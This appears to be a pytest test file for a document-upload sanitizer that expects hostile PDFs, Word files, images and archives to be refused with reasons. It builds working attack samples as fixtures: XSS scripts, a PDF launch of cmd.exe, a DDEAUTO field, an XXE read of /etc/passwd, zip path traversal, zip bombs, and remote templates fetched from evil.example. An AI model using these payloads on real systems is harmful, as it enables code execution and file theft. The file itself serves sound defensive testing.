"""Every hostile file gets its verdict, in words for the person who chose it."""

import io
import struct
import warnings
import zipfile

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String

from documents.inspection import DOCUMENTS, Limits, Refused, inspect
from tests.documents import files


def open_action(action: Dictionary):
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(action)

    return change


def launching_link(made: pikepdf.Pdf) -> None:
    files.add_annotation(made, "Link", A=Dictionary(S=Name.Launch, F=String("cmd.exe")))


def xfa_form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=String("<xdp/>"))


def portfolio(made: pikepdf.Pdf) -> None:
    made.Root.Collection = Dictionary(Type=Name.Collection)


def pdf_bomb(made: pikepdf.Pdf) -> None:
    made.Root.Bomb = made.make_stream(b"\x00" * 3_000_000)


def large_picture(made: pikepdf.Pdf) -> None:
    image = made.make_stream(b"\x00")
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 60_000, 60_000
    made.pages[0].obj.Resources.XObject = Dictionary(Im1=image)


def encrypted(user: str) -> bytes:
    return files.pdf(encryption=pikepdf.Encryption(owner="owner", user=user))


def encrypted_zip_member() -> bytes:
    data = bytearray(files.docx_file())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def bomb_docx() -> bytes:
    return files.with_members(files.docx_file(), word__media__image1_png=b"\x00" * 40_000_000)


def lying_docx() -> bytes:
    """The directory says that a part is small; the part is not."""
    data = bytearray(files.with_members(files.docx_file(), word__comments_xml=b"<a/>" * 100_000))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/comments_xml"))
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    content_types_at = data.find(b"PK\x01\x02")
    data[content_types_at + 24 : content_types_at + 28] = struct.pack("<I", 10)
    return bytes(data)


def two_of_one_name() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in files.members(files.docx_file()).items():
            archive.writestr(name, content)
        archive.writestr("WORD/document.xml", b"<other/>")
    return out.getvalue()


def macro_types(content: bytes) -> bytes:
    return content.replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.document.main+xml;macroEnabled"
    )


def field(instruction: str):
    def change(document) -> None:
        from docx.oxml import OxmlElement
        from docx.oxml.ns import qn

        simple = OxmlElement("w:fldSimple")
        simple.set(qn("w:instr"), instruction)
        document.add_paragraph()._p.append(simple)

    return change


def entities(content: bytes) -> bytes:
    head = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return content.replace(b"?>", b"?>" + head, 1)


HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
TEMPLATE = "https://evil.example/t.dotm"

HOSTILE = {
    "empty": (lambda: b"", "report.pdf", "is empty"),
    "html as itself": (lambda: HTML, "xss.html", "web page"),
    "html as pdf": (lambda: HTML, "report.pdf", "web page"),
    "svg": (lambda: SVG, "drawing.svg", "web page"),
    "svg as png": (lambda: SVG, "drawing.png", "web page"),
    "eicar": (lambda: EICAR, "eicar.txt", "of a kind that|seems to be"),
    "program": (lambda: b"MZ" + b"\x00" * 500, "report.pdf", "seems to be|of a kind that"),
    "zip": (lambda: files.zipped({"a.txt": b"a"}), "files.zip", "ZIP archive"),
    "zip as docx": (lambda: files.zipped({"a.txt": b"a"}), "report.docx", "ZIP archive"),
    "docx as pdf": (files.docx_file, "report.pdf", "is a Word document .* name ends in “.pdf”"),
    "pdf as docx": (files.pdf, "report.docx", "is a PDF, but its name ends in “.docx”"),
    "pdf without ending": (files.pdf, "report", "its name has no ending"),
    "pdf with turned name": (files.pdf, "report\u202efdp.exe", "name ends in “.exe”"),
    "pdf with NUL": (files.pdf, "report.pdf\x00.exe", "name ends in “.exe”"),
    "password": (lambda: encrypted("secret"), "report.pdf", "protected by a password"),
    "restrictions": (lambda: encrypted(""), "report.pdf", "is protected"),
    "pdf cut short": (lambda: files.pdf()[:300], "report.pdf", "damaged"),
    "pdf of rubbish": (lambda: b"%PDF-1.7\n" + b"\x07" * 500 + b"%%EOF", "report.pdf", "damaged"),
    "pdf and html": (lambda: b"%PDF-1.7\n" + HTML + files.pdf()[9:], "report.pdf", "web page in one"),
    "pdf and zip": (
        lambda: files.pdf() + files.zipped({"a": b"a" * 99}),
        "report.pdf",
        "hidden behind its end",
    ),
    "zip before pdf": (lambda: b"PK\x03\x04" + files.pdf(), "report.pdf", "damaged|ZIP archive"),
    "pdf script": (
        lambda: files.pdf(change=open_action(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))),
        "report.pdf",
        "holds a script",
    ),
    "pdf launch": (
        lambda: files.pdf(change=open_action(Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "report.pdf",
        "starts a program",
    ),
    "pdf launching link": (lambda: files.pdf(change=launching_link), "report.pdf", "starts a program"),
    "pdf form with scripts": (lambda: files.pdf(change=xfa_form), "report.pdf", "script"),
    "pdf portfolio": (lambda: files.pdf(change=portfolio), "report.pdf", "folder of other files"),
    "pdf with a huge picture": (
        lambda: files.pdf(change=large_picture),
        "report.pdf",
        "picture that is too large",
    ),
    "docx with a password": (
        lambda: OLE + "EncryptedPackage".encode("utf-16-le"),
        "report.docx",
        "protected by a password",
    ),
    "old doc": (lambda: OLE, "report.doc", "old office program"),
    "docx with an encrypted part": (encrypted_zip_member, "report.docx", "password"),
    "docx bomb": (bomb_docx, "report.docx", "ZIP bomb"),
    "docx with a lying part": (lying_docx, "report.docx", "damaged"),
    "docx with two of one name": (two_of_one_name, "report.docx", "two parts of one name"),
    "docx that climbs out": (
        lambda: files.zipped(files.members(files.docx_file()) | {"../../etc/cron.d/x": b"x"}),
        "report.docx",
        "points outside",
    ),
    "docx with a tail": (lambda: files.docx_file() + HTML, "report.docx", "hidden behind its end|damaged"),
    "docm": (files.docx_file, "report.docm", "can hold macros"),
    "macros as docx": (
        lambda: files.with_members(files.docx_file(), word__vbaProject_bin=b"\x00"),
        "report.docx",
        "holds macros",
    ),
    "macro type as docx": (
        lambda: files.zipped(
            {
                name: macro_types(content) if name == "[Content_Types].xml" else content
                for name, content in files.members(files.docx_file()).items()
            }
        ),
        "report.docx",
        "holds macros",
    ),
    "remote template": (
        lambda: files.with_relationship(
            files.docx_file(),
            "attachedTemplate",
            TEMPLATE,
            external=True,
            part="word/_rels/settings.xml.rels",
        ),
        "report.docx",
        "fetches its template",
    ),
    "template on another machine": (
        lambda: files.with_relationship(
            files.docx_file(),
            "attachedTemplate",
            r"file:///\\evil\share\t.dotm",
            external=True,
            part="word/_rels/settings.xml.rels",
        ),
        "report.docx",
        "fetches its template",
    ),
    "remote picture": (
        lambda: files.with_relationship(
            files.docx_file(), "image", "https://evil.example/a.png", external=True
        ),
        "report.docx",
        "from elsewhere",
    ),
    "built-in page": (
        lambda: files.with_relationship(files.docx_file(), "aFChunk", "page.html"),
        "report.docx",
        "Another file is built into",
    ),
    "active control": (
        lambda: files.with_relationship(files.docx_file(), "control", "activeX/a.xml"),
        "report.docx",
        "active controls",
    ),
    "field that runs": (
        lambda: files.docx_file(change=field(r"DDEAUTO c:\\windows\\system32\\cmd.exe")),
        "report.docx",
        "field that fetches",
    ),
    "field that fetches": (
        lambda: files.docx_file(change=field('INCLUDEPICTURE "https://evil.example/a.png"')),
        "report.docx",
        "field that fetches",
    ),
    "entities": (
        lambda: files.zipped(
            {
                name: entities(content) if name == "word/document.xml" else content
                for name, content in files.members(files.docx_file()).items()
            }
        ),
        "report.docx",
        "XML entities",
    ),
    "huge picture": (files.huge_png, "photo.png", "million pixels"),
    "broken picture": (lambda: files.png()[:60], "photo.png", "damaged"),
    "picture that stops": (lambda: files.jpeg(size=(900, 900))[:900], "photo.jpg", "damaged"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_with_the_reason(case):
    make, name, reason = HOSTILE[case]

    with pytest.raises(Refused, match=reason):
        inspect(make(), name)


def test_a_file_above_the_limit_is_refused_with_both_sizes():
    with pytest.raises(Refused, match="is 2 MB; at most 1 MB"):
        inspect(b"%PDF-" + b"x" * 2_000_000, "report.pdf", limits=Limits(most_bytes=1024 * 1024))


def test_a_pdf_that_unpacks_too_far_is_refused_before_it_is_unpacked():
    with pytest.raises(Refused, match="ZIP bomb"):
        inspect(files.pdf(change=pdf_bomb), "report.pdf", limits=Limits(most_unpacked_bytes=1_000_000))


def test_a_pdf_with_too_many_pages_is_refused():
    with pytest.raises(Refused, match="3 pages; at most 2"):
        inspect(files.pdf("", "", ""), "report.pdf", limits=Limits(most_pages=2))


def test_an_archive_with_too_many_parts_is_refused():
    many = files.zipped({f"word/part{number}.xml": b"<a/>" for number in range(40)})
    with pytest.raises(Refused, match="40 parts; at most 20"):
        inspect(many, "report.docx", limits=Limits(most_members=20))


def test_what_is_accepted_depends_on_what_it_is_for():
    assert inspect(files.png(), "photo.png").media_type == "image/png"
    with pytest.raises(Refused, match=r"is a PNG picture\. Upload a PDF or a Word document"):
        inspect(files.png(), "photo.png", accepted=DOCUMENTS)


def test_a_fault_of_a_parser_is_a_refusal_and_not_an_error(monkeypatch):
    def stumble(*args):
        raise RecursionError("too deep")

    monkeypatch.setattr("documents.inspection.inspecting.Reading", stumble)

    with pytest.raises(Refused, match="damaged or made in a way"):
        inspect(files.pdf(), "report.pdf")


MENDABLE = [
    ("a.pdf", files.tagged_pdf()),
    ("a.pdf", files.picture_pdf(files.jpeg(gps=True))),
    ("a.docx", files.docx_file()),
    ("a.xlsx", files.xlsx_file()),
    ("a.png", files.png()),
    ("a.jpg", files.jpeg()),
]


@settings(max_examples=120)
@given(
    original=st.sampled_from(MENDABLE),
    damage=st.lists(st.tuples(st.floats(0, 0.999), st.binary(max_size=4), st.integers(0, 12)), max_size=8),
)
def test_a_damaged_file_is_refused_or_made_clean_and_never_an_error(original, damage):
    name, data = original
    for where, inserted, taken in damage:
        at = int(where * len(data))
        data = data[:at] + inserted + data[at + taken :]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            clean = inspect(data, name).clean
        except Refused:
            return
        assert inspect(clean, name).clean
